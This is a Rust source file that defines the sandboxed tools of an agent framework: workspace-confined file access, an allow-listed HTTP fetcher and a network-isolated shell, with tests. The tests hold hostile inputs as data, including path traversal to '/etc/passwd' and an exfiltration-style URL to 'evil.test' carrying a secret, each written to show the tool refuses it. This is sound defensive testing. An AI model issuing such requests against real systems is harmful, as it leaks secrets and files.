//! Tools an agent can call: the built-ins (files in a workspace folder, `http_get` to
//! allow-listed hosts, an opt-in `shell`), command tools declared in the agent file, and
//! tools written in Rust ([`Tool`]).

use std::collections::BTreeMap;
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use futures_util::future::BoxFuture;
use keel_core::ToolDef;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

use crate::definition::{AgentDef, Approval, ToolSpec};
use crate::mcp::McpServer;

/// Longest tool output handed to the model; the rest is cut with a note.
const MAX_OUTPUT: usize = 32 * 1024;
const DEFAULT_TIMEOUT_S: f64 = 30.0;

/// What a tool call knows about where it runs.
#[derive(Debug, Clone)]
pub struct ToolContext {
    pub run_id: String,
    pub call_id: String,
    /// Stable across retries and resumes of the same call (`RUN:CALL`): a tool with side
    /// effects outside keel can use it to do them once.
    pub idempotency_key: String,
    pub workspace: PathBuf,
}

/// A tool written in Rust.
pub trait Tool: Send + Sync {
    fn def(&self) -> ToolDef;
    /// Runs the call; `Err` is a failure the model gets to see.
    fn call<'a>(&'a self, arguments: Value, ctx: &'a ToolContext) -> BoxFuture<'a, Result<String, String>>;
    /// What the tool does, for the guard; `None` leaves it to the agent file (or keel's
    /// conservative default: untrusted output, external effect).
    fn capabilities(&self) -> Option<keel_guard::Capabilities> {
        None
    }
}

/// A Rust closure as a tool, with a JSON Schema for its arguments.
pub struct FunctionTool<F> {
    def: ToolDef,
    run: F,
    capabilities: Option<keel_guard::Capabilities>,
}

impl<F> FunctionTool<F>
where
    F: Fn(Value, ToolContext) -> BoxFuture<'static, Result<String, String>> + Send + Sync,
{
    pub fn new(name: &str, description: &str, parameters: Value, run: F) -> FunctionTool<F> {
        FunctionTool { def: ToolDef { name: name.into(), description: Some(description.into()), parameters, strict: None }, run, capabilities: None }
    }

    /// Declares what the tool does, for the guard (`private_data`, `untrusted_output`,
    /// `external`, `changes_state`).
    pub fn with_capabilities(mut self, capabilities: &[keel_guard::Capability]) -> FunctionTool<F> {
        self.capabilities = Some(keel_guard::Capabilities::of(capabilities));
        self
    }
}

/// A tool whose arguments are a Rust type: its JSON Schema is derived from the type
/// (`schemars`, doc comments become descriptions) and the model's arguments arrive parsed.
///
/// ```ignore
/// #[derive(serde::Deserialize, schemars::JsonSchema)]
/// struct Weather { /// The city, e.g. "Lisbon"
///     city: String, days: Option<u8> }
/// let tool = keel_agent::tools::typed("weather", "Forecast for a city", |args: Weather, _ctx| Box::pin(async move {
///     Ok(format!("sunny in {}", args.city))
/// }));
/// ```
pub fn typed<A, F>(name: &str, description: &str, run: F) -> Arc<dyn Tool>
where
    A: serde::de::DeserializeOwned + schemars::JsonSchema + Send + 'static,
    F: Fn(A, ToolContext) -> BoxFuture<'static, Result<String, String>> + Send + Sync + 'static,
{
    // Sub-schemas inline: some providers (and local grammars) do not follow `$ref`.
    let generator = schemars::generate::SchemaSettings::draft2020_12().with(|s| s.inline_subschemas = true).into_generator();
    let mut parameters = serde_json::to_value(generator.into_root_schema_for::<A>()).unwrap_or_else(|_| json!({"type": "object"}));
    if let Some(object) = parameters.as_object_mut() {
        object.remove("$schema");
        object.remove("title");
    }
    Arc::new(FunctionTool::new(name, description, parameters, move |arguments: Value, ctx: ToolContext| {
        match serde_json::from_value::<A>(arguments) {
            Ok(args) => run(args, ctx),
            Err(err) => Box::pin(async move { Err(format!("invalid arguments: {err}")) }),
        }
    }))
}

impl<F> Tool for FunctionTool<F>
where
    F: Fn(Value, ToolContext) -> BoxFuture<'static, Result<String, String>> + Send + Sync,
{
    fn def(&self) -> ToolDef {
        self.def.clone()
    }

    fn call<'a>(&'a self, arguments: Value, ctx: &'a ToolContext) -> BoxFuture<'a, Result<String, String>> {
        (self.run)(arguments, ctx.clone())
    }

    fn capabilities(&self) -> Option<keel_guard::Capabilities> {
        self.capabilities
    }
}

/// What runs a call: the one dispatch the loop matches on, once per call.
#[derive(Clone)]
pub enum ToolKind {
    /// A tool with code of its own: a built-in, a command tool, an MCP server's tool, or a
    /// tool written in Rust.
    Code(Arc<dyn Tool>),
    /// Hands the conversation over to another agent of the team (`transfer_to_NAME`); the
    /// agent it goes to is in [`crate::Agent::handoffs`].
    Handoff,
    /// One of the long-term memory tools (`remember`, `recall`, `forget`).
    Memory,
    /// Searches the RAG collection of this name.
    Collection(String),
    /// Runs the sub-agent of the same name (in [`crate::Agent::sub_agents`]) on what is left
    /// of the caller's budget.
    Agent,
}

/// One tool as the runtime holds it.
#[derive(Clone)]
pub struct Entry {
    /// The name, description and argument schema the model sees.
    pub def: ToolDef,
    pub kind: ToolKind,
    pub approval: Approval,
    pub timeout: Duration,
}

impl Entry {
    pub fn new(def: ToolDef, kind: ToolKind, approval: Approval, timeout_s: Option<f64>) -> Entry {
        let timeout = Duration::from_secs_f64(timeout_s.unwrap_or(DEFAULT_TIMEOUT_S).max(0.001));
        Entry { def, kind, approval, timeout }
    }

    /// What the tool declares it does, for the guard (only tools with code of their own can);
    /// `None` leaves it to the agent file.
    pub fn capabilities(&self) -> Option<keel_guard::Capabilities> {
        match &self.kind {
            ToolKind::Code(tool) => tool.capabilities(),
            _ => None,
        }
    }
}

/// The tools of one agent, by name: its own, and those of its MCP servers once connected.
#[derive(Default)]
pub struct ToolBox {
    pub tools: BTreeMap<String, Entry>,
    pub mcp: Vec<Arc<McpServer>>,
}

impl std::fmt::Debug for ToolBox {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_list().entries(self.tools.keys()).finish()
    }
}

impl ToolBox {
    /// The tools an agent file declares; command tools run from `base_dir`.
    pub fn from_definition(def: &AgentDef, base_dir: &Path) -> ToolBox {
        let mut tools = ToolBox::default();
        for (name, spec) in &def.tools {
            if let Some(collection) = &spec.collection {
                let def = crate::rag::tool_def(name, collection, spec.description.as_deref());
                tools.add(Entry::new(def, ToolKind::Collection(collection.clone()), spec.approval, spec.timeout_s));
                continue;
            }
            if spec.agent.is_some() {
                let description = spec.description.clone().unwrap_or_else(|| format!("Ask the {name} agent."));
                tools.add(Entry::new(agent_tool_def(name, &description), ToolKind::Agent, spec.approval, spec.timeout_s));
                continue;
            }
            let tool: Arc<dyn Tool> = match name.as_str() {
                "read_file" => Arc::new(BuiltIn::ReadFile),
                "write_file" => Arc::new(BuiltIn::WriteFile),
                "list_dir" => Arc::new(BuiltIn::ListDir),
                "http_get" => Arc::new(BuiltIn::HttpGet { hosts: spec.allow_hosts.clone() }),
                "shell" => Arc::new(BuiltIn::Shell { network: spec.network }),
                _ => Arc::new(CommandTool::new(name, spec, base_dir)),
            };
            tools.insert(tool, spec.approval, spec.timeout_s);
        }
        for (name, spec) in &def.handoffs {
            tools.add(Entry::new(handoff_def(name, spec.description.as_deref()), ToolKind::Handoff, Approval::Never, None));
        }
        if def.memory.is_some() {
            for def in crate::memory::tool_defs() {
                tools.add(Entry::new(def, ToolKind::Memory, Approval::Never, None));
            }
        }
        tools.mcp = def.mcp.iter().map(|(name, spec)| Arc::new(McpServer::new(name, spec, base_dir))).collect();
        tools
    }

    /// Connects the MCP servers not yet connected and lists their tools.
    pub(crate) async fn connect(&self) -> Result<(), String> {
        let listed = futures_util::future::join_all(self.mcp.iter().map(|server| server.entries())).await;
        for result in listed {
            let entries = result?;
            if let Some(clash) = entries.keys().find(|name| self.tools.contains_key(*name)) {
                return Err(format!("the MCP tool `{clash}` has the name of a tool in the agent file"));
            }
        }
        Ok(())
    }

    fn mcp_entries(&self) -> impl Iterator<Item = (&String, &Entry)> {
        self.mcp.iter().filter_map(|server| server.connected_entries()).flatten()
    }

    /// A tool by the name the model knows it by.
    pub fn get(&self, name: &str) -> Option<&Entry> {
        self.tools.get(name).or_else(|| self.mcp_entries().find(|(n, _)| *n == name).map(|(_, entry)| entry))
    }

    pub fn names(&self) -> Vec<&str> {
        self.tools.keys().chain(self.mcp_entries().map(|(n, _)| n)).map(String::as_str).collect()
    }

    /// Adds a tool with code of its own (a tool written in Rust).
    pub fn insert(&mut self, tool: Arc<dyn Tool>, approval: Approval, timeout_s: Option<f64>) {
        self.add(Entry::new(tool.def(), ToolKind::Code(tool), approval, timeout_s));
    }

    /// Adds a tool of any kind under the name its definition gives.
    pub fn add(&mut self, entry: Entry) {
        self.tools.insert(entry.def.name.clone(), entry);
    }

    pub fn defs(&self) -> Vec<ToolDef> {
        self.tools.values().chain(self.mcp_entries().map(|(_, e)| e)).map(|entry| entry.def.clone()).collect()
    }
}

/// Cuts long output to what a model can use, saying how much was left out.
pub fn truncate(mut text: String) -> String {
    if text.len() > MAX_OUTPUT {
        let mut cut = MAX_OUTPUT;
        while !text.is_char_boundary(cut) {
            cut -= 1;
        }
        let dropped = text.len() - cut;
        text.truncate(cut);
        text.push_str(&format!("\n[… {dropped} more bytes cut]"));
    }
    text
}

/// A path the model gave, inside the workspace: relative, no `..`, and not leaving the
/// workspace through a symbolic link.
pub(crate) fn inside(workspace: &Path, given: &str) -> Result<PathBuf, String> {
    let relative = Path::new(given.trim());
    if relative.components().any(|c| matches!(c, Component::ParentDir | Component::RootDir | Component::Prefix(_))) {
        return Err(format!("`{given}` is outside the workspace; use a relative path inside it, without `..`"));
    }
    let root = workspace.canonicalize().map_err(|e| format!("the workspace {} is not readable: {e}", workspace.display()))?;
    let path = root.join(relative);
    let mut probe = path.clone();
    while !probe.exists() {
        if !probe.pop() {
            break;
        }
    }
    let real = probe.canonicalize().map_err(|e| format!("`{given}`: {e}"))?;
    if !real.starts_with(&root) {
        return Err(format!("`{given}` leads outside the workspace"));
    }
    Ok(path)
}

fn string_arg<'a>(arguments: &'a Value, name: &str) -> Result<&'a str, String> {
    arguments.get(name).and_then(Value::as_str).ok_or_else(|| format!("missing string argument `{name}`"))
}

enum BuiltIn {
    ReadFile,
    WriteFile,
    ListDir,
    HttpGet { hosts: Vec<String> },
    Shell { network: bool },
}

impl Tool for BuiltIn {
    fn def(&self) -> ToolDef {
        let (name, description, parameters) = match self {
            BuiltIn::ReadFile => (
                "read_file",
                "Read a text file in the workspace.",
                json!({"type": "object", "properties": {"path": {"type": "string", "description": "Path relative to the workspace"}}, "required": ["path"], "additionalProperties": false}),
            ),
            BuiltIn::WriteFile => (
                "write_file",
                "Write (create or replace) a text file in the workspace.",
                json!({"type": "object", "properties": {"path": {"type": "string"}, "content": {"type": "string"}}, "required": ["path", "content"], "additionalProperties": false}),
            ),
            BuiltIn::ListDir => (
                "list_dir",
                "List the entries of a folder in the workspace (\".\" for its top).",
                json!({"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"], "additionalProperties": false}),
            ),
            BuiltIn::HttpGet { .. } => (
                "http_get",
                "Fetch a web page or API response over HTTP(S) from an allowed host.",
                json!({"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"], "additionalProperties": false}),
            ),
            BuiltIn::Shell { .. } => (
                "shell",
                "Run a shell command in the workspace folder; returns its exit status and output.",
                json!({"type": "object", "properties": {"command": {"type": "string"}}, "required": ["command"], "additionalProperties": false}),
            ),
        };
        ToolDef { name: name.into(), description: Some(description.into()), parameters, strict: None }
    }

    fn call<'a>(&'a self, arguments: Value, ctx: &'a ToolContext) -> BoxFuture<'a, Result<String, String>> {
        Box::pin(async move {
            match self {
                BuiltIn::ReadFile => {
                    let path = inside(&ctx.workspace, string_arg(&arguments, "path")?)?;
                    let bytes = tokio::fs::read(&path).await.map_err(|e| format!("could not read {}: {e}", string_arg(&arguments, "path").unwrap_or("")))?;
                    String::from_utf8(bytes).map(truncate).map_err(|_| "the file is not UTF-8 text".to_string())
                }
                BuiltIn::WriteFile => {
                    let given = string_arg(&arguments, "path")?;
                    let content = string_arg(&arguments, "content")?;
                    let path = inside(&ctx.workspace, given)?;
                    if let Some(parent) = path.parent() {
                        tokio::fs::create_dir_all(parent).await.map_err(|e| format!("could not create the folder for {given}: {e}"))?;
                    }
                    tokio::fs::write(&path, content).await.map_err(|e| format!("could not write {given}: {e}"))?;
                    Ok(format!("wrote {} bytes to {given}", content.len()))
                }
                BuiltIn::ListDir => {
                    let given = string_arg(&arguments, "path")?;
                    let path = inside(&ctx.workspace, given)?;
                    let mut entries = tokio::fs::read_dir(&path).await.map_err(|e| format!("could not list {given}: {e}"))?;
                    let mut names = Vec::new();
                    while let Ok(Some(entry)) = entries.next_entry().await {
                        let mut name = entry.file_name().to_string_lossy().into_owned();
                        if entry.file_type().await.is_ok_and(|t| t.is_dir()) {
                            name.push('/');
                        }
                        names.push(name);
                    }
                    names.sort();
                    Ok(if names.is_empty() { "(empty)".into() } else { names.join("\n") })
                }
                BuiltIn::HttpGet { hosts } => http_get(hosts, string_arg(&arguments, "url")?).await,
                BuiltIn::Shell { network } => shell(string_arg(&arguments, "command")?, &ctx.workspace, *network).await,
            }
        })
    }
}

async fn http_get(hosts: &[String], url: &str) -> Result<String, String> {
    let parsed = reqwest::Url::parse(url).map_err(|e| format!("`{url}` is not a URL: {e}"))?;
    if !matches!(parsed.scheme(), "http" | "https") {
        return Err(format!("only http and https URLs can be fetched, not {}", parsed.scheme()));
    }
    let host = parsed.host_str().unwrap_or_default().to_ascii_lowercase();
    let allowed = hosts.iter().any(|h| {
        let h = h.to_ascii_lowercase();
        host == h || host.ends_with(&format!(".{h}"))
    });
    if !allowed {
        return Err(format!("host `{host}` is not allowed; allowed hosts: {}", hosts.join(", ")));
    }
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(20))
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .map_err(|e| e.to_string())?;
    let response = client.get(parsed).send().await.map_err(|e| format!("fetching {url} failed: {e}"))?;
    let status = response.status();
    let body = response.text().await.map_err(|e| format!("reading {url} failed: {e}"))?;
    Ok(truncate(format!("HTTP {}\n\n{body}", status.as_u16())))
}

/// Whether unprivileged network namespaces work here (`unshare -rn`).
async fn can_isolate_network() -> bool {
    static ANSWER: tokio::sync::OnceCell<bool> = tokio::sync::OnceCell::const_new();
    *ANSWER
        .get_or_init(|| async {
            tokio::process::Command::new("unshare")
                .args(["-rn", "true"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .await
                .is_ok_and(|s| s.success())
        })
        .await
}

async fn shell(command: &str, workspace: &Path, network: bool) -> Result<String, String> {
    let mut cmd = if network {
        tokio::process::Command::new("sh")
    } else if can_isolate_network().await {
        let mut cmd = tokio::process::Command::new("unshare");
        cmd.args(["-rn", "sh"]);
        cmd
    } else {
        return Err("shell: this system cannot cut a command off the network (no user namespaces); set `network = true` under [tools.shell] to run commands with network access".into());
    };
    cmd.arg("-c").arg(command).current_dir(workspace).env_clear().env("HOME", workspace).kill_on_drop(true);
    if let Some(path) = std::env::var_os("PATH") {
        cmd.env("PATH", path);
    }
    let output = cmd.output().await.map_err(|e| format!("could not start the shell: {e}"))?;
    let status = output.status.code().map_or("killed by a signal".to_string(), |c| format!("exit status {c}"));
    Ok(truncate(format!(
        "{status}\n--- stdout ---\n{}\n--- stderr ---\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )))
}

/// The definition of a tool that asks a sub-agent: one `request` argument.
fn agent_tool_def(name: &str, description: &str) -> ToolDef {
    ToolDef {
        name: name.into(),
        description: Some(description.into()),
        parameters: json!({"type": "object", "properties": {"request": {"type": "string", "description": "What to ask, in full"}}, "required": ["request"], "additionalProperties": false}),
        strict: None,
    }
}

/// The definition of `transfer_to_NAME`, the tool that hands the conversation to NAME.
pub(crate) fn handoff_def(name: &str, description: Option<&str>) -> ToolDef {
    let description = description.map_or_else(|| format!("Hand the conversation over to the {name} agent."), str::to_string);
    ToolDef {
        name: format!("transfer_to_{name}"),
        description: Some(format!("{description} It takes over from here and answers the user.")),
        parameters: json!({"type": "object", "properties": {"reason": {"type": "string", "description": "Why, in a few words"}}, "additionalProperties": false}),
        strict: None,
    }
}

/// A tool declared in the agent file: a command that reads the arguments as JSON on its
/// standard input and prints the result; a non-zero exit is a failure the model sees.
struct CommandTool {
    def: ToolDef,
    command: Vec<String>,
    base_dir: PathBuf,
}

impl CommandTool {
    fn new(name: &str, spec: &ToolSpec, base_dir: &Path) -> CommandTool {
        CommandTool {
            def: ToolDef {
                name: name.into(),
                description: spec.description.clone(),
                parameters: spec.parameters.clone().unwrap_or_else(|| json!({"type": "object"})),
                strict: None,
            },
            command: spec.command.clone().unwrap_or_default(),
            base_dir: base_dir.to_path_buf(),
        }
    }
}

impl Tool for CommandTool {
    fn def(&self) -> ToolDef {
        self.def.clone()
    }

    fn call<'a>(&'a self, arguments: Value, ctx: &'a ToolContext) -> BoxFuture<'a, Result<String, String>> {
        Box::pin(async move {
            let mut child = tokio::process::Command::new(&self.command[0])
                .args(&self.command[1..])
                .current_dir(&self.base_dir)
                .env("KEEL_WORKSPACE", &ctx.workspace)
                .env("KEEL_RUN_ID", &ctx.run_id)
                .env("KEEL_CALL_ID", &ctx.call_id)
                .env("KEEL_IDEMPOTENCY_KEY", &ctx.idempotency_key)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .kill_on_drop(true)
                .spawn()
                .map_err(|e| format!("could not start `{}`: {e}", self.command.join(" ")))?;
            if let Some(mut stdin) = child.stdin.take() {
                let _ = stdin.write_all(arguments.to_string().as_bytes()).await;
            }
            let output = child.wait_with_output().await.map_err(|e| e.to_string())?;
            let stdout = String::from_utf8_lossy(&output.stdout).trim_end().to_string();
            if output.status.success() {
                Ok(truncate(stdout))
            } else {
                // What it printed on either stream explains the failure.
                let stderr = String::from_utf8_lossy(&output.stderr);
                let said: Vec<&str> = [stdout.as_str(), stderr.trim_end()].into_iter().filter(|s| !s.is_empty()).collect();
                Err(truncate(format!("the tool failed ({}): {}", output.status, said.join("\n"))))
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(workspace: &Path) -> ToolContext {
        ToolContext { run_id: "r".into(), call_id: "c".into(), idempotency_key: "r:c".into(), workspace: workspace.into() }
    }

    #[tokio::test]
    async fn file_tools_stay_inside_the_workspace() {
        let dir = std::env::temp_dir().join(format!("keel-tools-{}", std::process::id()));
        let workspace = dir.join("ws");
        std::fs::create_dir_all(&workspace).unwrap();
        std::fs::write(dir.join("secret.txt"), "secret").unwrap();
        let ctx = ctx(&workspace);
        let write = BuiltIn::WriteFile.call(json!({"path": "notes/a.txt", "content": "hello"}), &ctx).await.unwrap();
        assert_eq!(write, "wrote 5 bytes to notes/a.txt");
        assert_eq!(BuiltIn::ReadFile.call(json!({"path": "notes/a.txt"}), &ctx).await.unwrap(), "hello");
        assert_eq!(BuiltIn::ListDir.call(json!({"path": "."}), &ctx).await.unwrap(), "notes/");
        for path in ["../secret.txt", "/etc/passwd", "notes/../../secret.txt"] {
            let err = BuiltIn::ReadFile.call(json!({"path": path}), &ctx).await.unwrap_err();
            assert!(err.contains("outside the workspace"), "{path}: {err}");
        }
        #[cfg(unix)]
        {
            std::os::unix::fs::symlink(dir.join("secret.txt"), workspace.join("link")).unwrap();
            let err = BuiltIn::ReadFile.call(json!({"path": "link"}), &ctx).await.unwrap_err();
            assert!(err.contains("leads outside"), "{err}");
        }
        let _ = std::fs::remove_dir_all(dir);
    }

    #[tokio::test]
    async fn http_get_refuses_hosts_off_the_list() {
        let hosts = vec!["example.com".to_string()];
        let err = http_get(&hosts, "https://evil.test/x?d=secret").await.unwrap_err();
        assert!(err.contains("host `evil.test` is not allowed"), "{err}");
        let err = http_get(&hosts, "file:///etc/passwd").await.unwrap_err();
        assert!(err.contains("only http and https"), "{err}");
        // A suffix match needs a dot: `notexample.com` is another host.
        assert!(http_get(&hosts, "https://notexample.com/").await.unwrap_err().contains("not allowed"));
    }

    #[tokio::test]
    async fn shell_runs_in_the_workspace_without_network() {
        let workspace = std::env::temp_dir().join(format!("keel-shell-{}", std::process::id()));
        std::fs::create_dir_all(&workspace).unwrap();
        std::fs::write(workspace.join("here.txt"), "x").unwrap();
        match shell("ls; exit 3", &workspace, false).await {
            Ok(out) => {
                assert!(out.starts_with("exit status 3") && out.contains("here.txt"), "{out}");
                // Cut off the network: only a loopback device, and it is down.
                let out = shell("cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '", &workspace, false).await.unwrap();
                assert!(!out.contains("eth") && !out.contains("ens"), "{out}");
            }
            Err(err) => assert!(err.contains("network = true"), "{err}"),
        }
        let _ = std::fs::remove_dir_all(workspace);
    }

    #[test]
    fn long_output_is_cut_with_a_note() {
        let out = truncate("é".repeat(MAX_OUTPUT));
        assert!(out.len() < MAX_OUTPUT + 64 && out.ends_with("more bytes cut]"));
    }
}
